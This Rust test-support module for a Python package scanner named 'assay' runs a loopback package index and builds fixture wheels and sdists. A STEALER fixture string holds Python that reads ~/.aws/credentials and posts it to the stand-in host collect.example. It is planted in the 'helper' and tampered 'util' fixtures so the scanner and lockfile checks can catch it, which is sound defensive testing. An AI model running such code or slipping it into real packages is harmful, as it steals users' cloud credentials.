//! Shared test support: a real package index server on loopback and
//! fixture distributions built from strings.
#![allow(dead_code)]

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use assert_cmd::prelude::*;
use serde_json::Value;
use sha2::{Digest, Sha256};

pub mod proxy;

/// A pypiserver process serving a folder of distributions on 127.0.0.1.
///
/// The server comes from `ASSAY_TEST_PYPI_SERVER` (set by `scripts/test.sh`,
/// which installs it) or `pypi-server` on the `PATH`. Fallback to any other
/// index is disabled, so an unknown name is a 404 and nothing leaves the
/// machine.
pub struct IndexServer {
    child: Child,
    pub root: String,
    pub dir: tempfile::TempDir,
}

impl IndexServer {
    pub fn start(files: &[(String, Vec<u8>)]) -> IndexServer {
        let exe = std::env::var_os("ASSAY_TEST_PYPI_SERVER")
            .map(PathBuf::from)
            .or_else(|| which("pypi-server"))
            .expect(
                "the index tests need pypiserver: run the tests with scripts/test.sh, \
                 or set ASSAY_TEST_PYPI_SERVER to a pypi-server executable",
            );
        let dir = tempfile::tempdir().expect("tempdir");
        for (name, bytes) in files {
            std::fs::write(dir.path().join(name), bytes).expect("write package");
        }
        let port = free_port();
        let child = Command::new(exe)
            .args(["run", "--port", &port.to_string(), "--host", "127.0.0.1"])
            .args([
                "--disable-fallback",
                "--authenticate",
                ".",
                "--passwords",
                ".",
            ])
            .args(["--hash-algo", "sha256", "--log-stream", "none"])
            .arg(dir.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start pypi-server");
        let server = IndexServer {
            child,
            root: format!("http://127.0.0.1:{port}"),
            dir,
        };
        server.wait_ready(port);
        server
    }

    /// The simple API root, as a user passes it to `--index-url`.
    pub fn index_url(&self) -> String {
        format!("{}/simple/", self.root)
    }

    /// The URL the server serves a file at.
    pub fn file_url(&self, filename: &str) -> String {
        format!("{}/packages/{filename}", self.root)
    }

    fn wait_ready(&self, port: u16) {
        let deadline = Instant::now() + Duration::from_secs(60);
        while Instant::now() < deadline {
            if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) {
                let _ = stream.write_all(b"GET /simple/ HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n");
                let mut reply = Vec::new();
                let _ = stream.read_to_end(&mut reply);
                if reply.starts_with(b"HTTP/1.0 200") || reply.starts_with(b"HTTP/1.1 200") {
                    return;
                }
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!("pypi-server did not answer on port {port} within 60 s");
    }
}

impl Drop for IndexServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn which(program: &str) -> Option<PathBuf> {
    std::env::var_os("PATH").and_then(|paths| {
        std::env::split_paths(&paths)
            .map(|dir| dir.join(program))
            .find(|candidate| candidate.is_file())
    })
}

fn free_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.local_addr().expect("addr").port()
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    let digest = Sha256::digest(bytes);
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

/// A distribution to publish: name, version, dependencies and module files
/// (paths relative to the package root, e.g. `helper/__init__.py`).
pub struct Dist<'a> {
    pub name: &'a str,
    pub version: &'a str,
    pub requires: &'a [&'a str],
    pub files: &'a [(&'a str, &'a str)],
}

impl Dist<'_> {
    fn metadata(&self, metadata_version: &str) -> String {
        let mut text = format!(
            "Metadata-Version: {metadata_version}\nName: {}\nVersion: {}\nSummary: fixture\n",
            self.name, self.version
        );
        for req in self.requires {
            text.push_str(&format!("Requires-Dist: {req}\n"));
        }
        text
    }

    fn stem(&self) -> String {
        format!("{}-{}", self.name.replace('-', "_"), self.version)
    }

    /// A `.tar.gz` sdist with a static PKG-INFO (metadata 2.2).
    pub fn sdist(&self) -> (String, Vec<u8>) {
        let stem = self.stem();
        let mut files: Vec<(String, Vec<u8>)> = vec![
            (format!("{stem}/PKG-INFO"), self.metadata("2.2").into_bytes()),
            (
                format!("{stem}/pyproject.toml"),
                b"[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n".to_vec(),
            ),
        ];
        for (path, text) in self.files {
            files.push((format!("{stem}/{path}"), text.as_bytes().to_vec()));
        }
        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
            Vec::new(),
            flate2::Compression::default(),
        ));
        for (path, data) in &files {
            let mut header = tar::Header::new_gnu();
            header.set_size(data.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            builder
                .append_data(&mut header, path, data.as_slice())
                .expect("tar entry");
        }
        let bytes = builder
            .into_inner()
            .and_then(|gz| gz.finish())
            .expect("finish tar.gz");
        (format!("{stem}.tar.gz"), bytes)
    }

    /// A pure-Python wheel with METADATA, WHEEL and a correct RECORD.
    pub fn wheel(&self) -> (String, Vec<u8>) {
        let stem = self.stem();
        let dist_info = format!("{stem}.dist-info");
        let mut files: Vec<(String, Vec<u8>)> = self
            .files
            .iter()
            .map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec()))
            .collect();
        files.push((
            format!("{dist_info}/METADATA"),
            self.metadata("2.1").into_bytes(),
        ));
        files.push((
            format!("{dist_info}/WHEEL"),
            b"Wheel-Version: 1.0\nGenerator: fixture\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
                .to_vec(),
        ));
        let mut record = String::new();
        for (path, data) in &files {
            use base64::Engine as _;
            let digest =
                base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(data));
            record.push_str(&format!("{path},sha256={digest},{}\n", data.len()));
        }
        record.push_str(&format!("{dist_info}/RECORD,,\n"));
        files.push((format!("{dist_info}/RECORD"), record.into_bytes()));

        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (path, data) in &files {
            zip.start_file(path.as_str(), options).expect("zip entry");
            zip.write_all(data).expect("zip write");
        }
        let bytes = zip.finish().expect("finish zip").into_inner();
        (format!("{stem}-py3-none-any.whl"), bytes)
    }
}

/// Write `text` to `dir/name` and return the path.
pub fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write");
    path
}

// Fixtures and helpers shared by the index tests.

pub const STEALER: &str = "import os, urllib.request\n\
creds = open(os.path.expanduser('~/.aws/credentials')).read()\n\
urllib.request.urlopen('https://collect.example/c', data=creds.encode())\n";

pub fn tidy() -> Dist<'static> {
    Dist {
        name: "tidy",
        version: "1.0",
        requires: &[],
        files: &[("tidy/__init__.py", "def tidy(x):\n    return x.strip()\n")],
    }
}

/// `util 1.0` as its author published it...
pub fn util() -> Dist<'static> {
    Dist {
        name: "util",
        version: "1.0",
        requires: &[],
        files: &[("util/__init__.py", "def add(a, b):\n    return a + b\n")],
    }
}

/// ...and as an index may serve it later, under the same file name: a
/// credential stealer (a lockfile's digest must catch the swap).
pub fn util_tampered() -> Dist<'static> {
    Dist {
        files: &[("util/__init__.py", STEALER)],
        ..util()
    }
}

pub fn app() -> Dist<'static> {
    Dist {
        name: "app",
        version: "1.0",
        requires: &["helper>=0.1", "tidy"],
        files: &[("app/__init__.py", "import helper\n")],
    }
}

pub fn helper() -> Dist<'static> {
    Dist {
        name: "helper",
        version: "0.2",
        requires: &[],
        files: &[("helper/__init__.py", STEALER)],
    }
}

/// The index with tidy (sdist and wheel), app (wheel) and helper (wheel).
pub fn server() -> IndexServer {
    IndexServer::start(&[
        tidy().sdist(),
        tidy().wheel(),
        app().wheel(),
        helper().wheel(),
    ])
}

/// `assay scan --format json` with a cache folder, for Python 3.11, with no
/// index, retry, timeout or proxy setting from the environment.
pub fn assay(cache: &Path) -> Command {
    assay_as("json", cache)
}

/// `assay scan --format FORMAT`, otherwise as [`assay`].
pub fn assay_as(format: &str, cache: &Path) -> Command {
    let mut cmd = Command::cargo_bin("assay").expect("binary");
    for var in [
        "PIP_INDEX_URL",
        "PIP_EXTRA_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "UV_INDEX_URL",
        "UV_INDEX",
        "UV_EXTRA_INDEX_URL",
        "PIP_RETRIES",
        "PIP_TIMEOUT",
        "PIP_DEFAULT_TIMEOUT",
        "PIP_PROXY",
        "http_proxy",
        "HTTP_PROXY",
        "https_proxy",
        "HTTPS_PROXY",
        "all_proxy",
        "ALL_PROXY",
    ] {
        cmd.env_remove(var);
    }
    cmd.env("PIP_CONFIG_FILE", "/dev/null")
        .env("NO_COLOR", "1")
        // The result-cache key: the user's own is left alone.
        .env("XDG_CONFIG_HOME", cache.join("config-home"))
        .args(["scan", "--format", format, "--python-version", "3.11"])
        .arg("--cache-dir")
        .arg(cache);
    cmd
}

/// The standard error of a run, as text.
pub fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// The JSON report of a run that exited with `code` (standard error is
/// shown when it did not).
pub fn report(output: &std::process::Output, code: i32) -> Value {
    assert_eq!(output.status.code(), Some(code), "{}", stderr(output));
    json(output)
}

/// The artifacts' targets, in order.
pub fn targets(doc: &Value) -> Vec<&str> {
    doc["artifacts"]
        .as_array()
        .expect("artifacts")
        .iter()
        .map(|a| a["target"].as_str().expect("target"))
        .collect()
}

/// Checks that each artifact named (by the start of its target) has the
/// verdict `label`.
pub fn assert_verdicts(doc: &Value, label: &str, names: &[&str]) {
    for name in names {
        let found = artifact(doc, name);
        assert_eq!(found["verdict"]["label"], label, "{name}: {found:#}");
    }
}

pub fn json(output: &std::process::Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

pub fn artifact<'a>(doc: &'a Value, filename_start: &str) -> &'a Value {
    doc["artifacts"]
        .as_array()
        .expect("artifacts")
        .iter()
        .find(|a| {
            a["target"]
                .as_str()
                .is_some_and(|t| t.starts_with(filename_start))
        })
        .unwrap_or_else(|| panic!("no artifact {filename_start} in {doc:#}"))
}
